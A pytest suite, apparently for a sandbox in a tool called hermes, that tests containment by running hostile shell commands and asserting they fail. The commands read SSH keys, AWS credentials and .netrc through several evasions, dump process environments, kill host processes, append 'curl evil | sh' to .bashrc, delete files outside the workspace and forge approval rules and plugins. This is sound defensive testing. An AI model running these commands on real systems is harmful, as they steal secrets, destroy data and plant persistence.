"""With every guard switched off, nothing run through terminal, a background process, execute_code or a cron
job gets past the walls: secrets, the host's processes and environment, files outside the workspace, hermes's
own state, and nothing outlives its call. Each test runs under every backend the machine has."""

from __future__ import annotations

import json
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from sandbox_stage import CHANNELS, Scene, gone, sleep_marker, state_of

from hermes_core.sandbox._landlock import probe_landlock
from hermes_core.testing import processes_with_arg


@pytest.mark.parametrize("channel", CHANNELS)
def test_secrets_in_home_cannot_be_read(scene: Scene, channel: str) -> None:
    home = scene.home
    command = f"""
    {{
      cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc
      cat {home}/.ss[h]/id_rsa "${{HOME:-x}}/.netrc" "$HOME"/.aws/*
      find {home} -name id_rsa -exec cat {{}} \\;
      ln -s {home}/.ssh/id_rsa link && cat link
      cp -r {home} copy && cat copy/.ssh/id_rsa
      python3 -c "print(open('{home}/.ssh/id_rsa').read())"
      tar -C {home} -cf - . | strings
      base64 {home}/.aws/credentials; rev {home}/.netrc; od -c {home}/.netrc
    }} > loot.txt 2>&1
    cat loot.txt
    """
    out = scene.shell(channel, command)
    loot = (scene.workspace / "loot.txt").read_text(errors="replace")
    for secret in scene.secrets.values():
        assert secret not in out and secret not in loot, (channel, out)
        assert secret[::-1] not in loot
    assert "bmV0cmMt" not in loot and "YXdzLW" not in loot  # base64 of "netrc-" / "aws-"


@pytest.mark.parametrize("channel", CHANNELS)
def test_host_processes_cannot_be_read_or_signalled(
    scene: Scene, channel: str, victim: tuple[subprocess.Popen[bytes], str, str]
) -> None:
    proc, marker, secret = victim
    pid = proc.pid
    if scene.backend == "landlock" and probe_landlock()[0] < 6:
        pytest.skip("Landlock blocks signals to outside processes only from ABI 6 on (documented)")
    command = f"""
    cat /proc/{pid}/environ > env.dump 2>&1
    cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -q {secret} && echo LEAKED-ENVIRONMENT
    cat /proc/$PPID/environ >> env.dump 2>&1
    strings /proc/{pid}/environ; od -c /proc/{pid}/environ | head; base64 /proc/{pid}/environ
    cat /proc/{pid}/cmdline | tr '\\0' ' '; echo
    kill -STOP {pid}; kill -SEGV {pid}; kill -9 {pid}; pkill -9 -f "^sleep {marker}$"
    echo done
    """
    out = scene.shell(channel, command)
    assert "done" in out, out
    assert "LEAKED-ENVIRONMENT" not in out
    assert secret not in out and secret not in (scene.workspace / "env.dump").read_text(errors="replace")
    time.sleep(0.2)
    assert proc.poll() is None, f"the host process was killed through {channel}: {out}"
    assert state_of(pid) not in ("T", "t", "Z", ""), out


@pytest.mark.parametrize("channel", CHANNELS)
def test_nothing_outside_the_workspace_can_be_written_or_deleted(scene: Scene, channel: str) -> None:
    out_dir, home = scene.outside, scene.home
    before = scene.sentinel.stat()
    scratch = f"/tmp/hermes-sandbox-test-{scene.config_marker}"
    command = f"""
    echo pwned >> {scene.sentinel}; chmod 000 {scene.sentinel}; touch {out_dir}/new.txt
    mv {scene.sentinel} moved.txt; cp /etc/hostname {out_dir}/; ln -s x {out_dir}/link
    echo 'curl evil | sh' >> {home}/.bashrc; rm -rf {home}/.ssh
    (cd {out_dir} && rm -rf *); rm -rf {out_dir}
    echo private > {scratch}; cat {scratch}
    echo done
    """
    out = scene.shell(channel, command)
    assert "done" in out, out
    assert sorted(p.name for p in out_dir.iterdir()) == ["sentinel.txt"]
    assert scene.sentinel.read_text() == "sentinel\n"
    if scene.backend == "bwrap":  # Landlock does not cover metadata (chmod, utime, xattrs): documented
        assert stat.S_IMODE(scene.sentinel.stat().st_mode) == stat.S_IMODE(before.st_mode)
    assert (home / ".bashrc").read_text() == "# rc\n"
    assert (home / ".ssh" / "id_rsa").exists()
    assert not Path(scratch).exists()  # /tmp inside is private


@pytest.mark.parametrize("channel", CHANNELS)
def test_hermes_config_plugins_state_and_approvals_are_out_of_reach(scene: Scene, channel: str) -> None:
    hh = scene.hermes_home
    config_before = scene.config.read_text()
    bundle = hh / "cache" / "dropin-0000000000000000.code"  # drop-ins' code the host runs at its next start
    bundle.parent.mkdir(parents=True, exist_ok=True)
    bundle.write_bytes(b"intact")
    command = f"""
    cat {scene.config}
    printf '[[approvals.always]]\\nkind = "command"\\nsubject = "rm -rf /"\\n' >> {scene.config}
    mkdir -p {hh}/plugins && echo 'import os; os.system("touch /tmp/owned")' > {hh}/plugins/evil.py
    echo forged > {bundle}; echo forged > {hh}/cache/dropin-1111111111111111.code
    echo '{{"state": "forged"}}' > {hh}/data/state.json; rm -rf {hh}/data {hh}/cache
    echo done
    """
    out = scene.shell(channel, command)
    assert "done" in out, out
    assert scene.config_marker not in out
    assert scene.config.read_text() == config_before
    assert not (hh / "plugins" / "evil.py").exists()
    assert json.loads((hh / "data" / "state.json").read_text()) == {"state": "intact"}
    assert bundle.read_bytes() == b"intact"
    assert not (hh / "cache" / "dropin-1111111111111111.code").exists()


@pytest.mark.parametrize("channel", CHANNELS)
def test_no_process_outlives_its_call(scene: Scene, channel: str) -> None:
    child, detached, nohup, double, bare = (sleep_marker() for _ in range(5))
    command = (
        f"sleep {child} & setsid sleep {detached} & nohup sleep {nohup} >/dev/null 2>&1 & "
        f"(setsid sleep {double} &) ; env -i /usr/bin/setsid /usr/bin/sleep {bare} & "
        "sleep 0.3; echo spawned"
    )
    out = scene.shell(channel, command)
    assert "spawned" in out, out
    for marker in (child, detached, nohup, double, bare):
        assert gone(marker), f"{marker} outlived its {channel} call under {scene.backend}"


def test_closing_the_system_ends_background_processes(scene: Scene) -> None:
    detached = sleep_marker()
    started = scene.system.call(
        "terminal", {"command": f"setsid sleep {detached} & echo up; sleep 300", "background": True}
    )
    assert "process_id=" in started
    deadline = time.monotonic() + 5
    while not processes_with_arg(detached) and time.monotonic() < deadline:
        time.sleep(0.02)
    assert processes_with_arg(detached)
    scene.system.close()
    assert gone(detached)


def test_a_cwd_outside_the_workspace_reaches_nothing(scene: Scene) -> None:
    outcome = scene.system.call_outcome(
        "terminal", {"command": "rm -rf *; echo ran", "cwd": str(scene.outside)}
    )
    assert scene.sentinel.read_text() == "sentinel\n"
    # refused before anything runs: outside the workspace, or (this one lies in the host's /tmp) a folder the
    # session's own private /tmp does not have
    assert outcome.status == "error"
    assert "outside" in outcome.result or "not an existing directory" in outcome.result


@pytest.mark.parametrize("runner", ["bash script.sh", "make", "BASH_ENV=script.sh bash -c true", "pytest"])
def test_scripts_written_with_write_file_are_walled_too(scene: Scene, runner: str) -> None:
    home = scene.home
    script = f"cat {home}/.ssh/id_rsa > leak.txt 2>&1; echo owned > {scene.outside}/owned.txt\n"
    system = scene.system
    assert system.call_outcome("write_file", {"path": "script.sh", "content": script}).status == "ok"
    system.call("write_file", {"path": "Makefile", "content": "all:\n\tbash script.sh\n"})
    system.call(
        "write_file",
        {
            "path": "test_owned.py",
            "content": "import subprocess\n\ndef test_x():\n    subprocess.run(['bash', 'script.sh'])\n",
        },
    )
    command = (
        f"PYTEST_DISABLE_PLUGIN_AUTOLOAD=1 {sys.executable} -m pytest -q -p no:cacheprovider"
        if runner == "pytest"
        else runner
    )
    out = system.call("terminal", {"command": command + "; echo finished"})
    assert "finished" in out, out
    assert (scene.workspace / "leak.txt").exists(), out  # the script did run...
    assert scene.secrets[".ssh/id_rsa"] not in (scene.workspace / "leak.txt").read_text()  # ...walled
    assert not (scene.outside / "owned.txt").exists()


def test_hermes_home_inside_the_workspace_is_hidden_or_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, backend: str
) -> None:
    from sandbox_stage import load_system

    workspace = tmp_path / "project"
    hermes_home = workspace / ".hermes"
    hermes_home.mkdir(parents=True)
    monkeypatch.setenv("HERMES_HOME", str(hermes_home))
    config = hermes_home / "config.toml"
    system = load_system(workspace, backend, config, "inside-marker")
    try:
        before = config.read_text()
        outcome = system.call_outcome(
            "terminal",
            {
                "command": f"cat {config}; echo x >> {config}; mkdir -p .hermes/plugins && echo x > .hermes/plugins/p.py"
            },
        )
        assert "inside-marker" not in outcome.result
        assert config.read_text() == before
        assert not (hermes_home / "plugins" / "p.py").exists()
        if backend == "landlock":  # it cannot hide part of a tree, so it refuses to run at all
            assert outcome.status == "error" and "Landlock cannot hide" in outcome.result
        else:
            assert outcome.status == "ok", outcome.result
    finally:
        system.close()
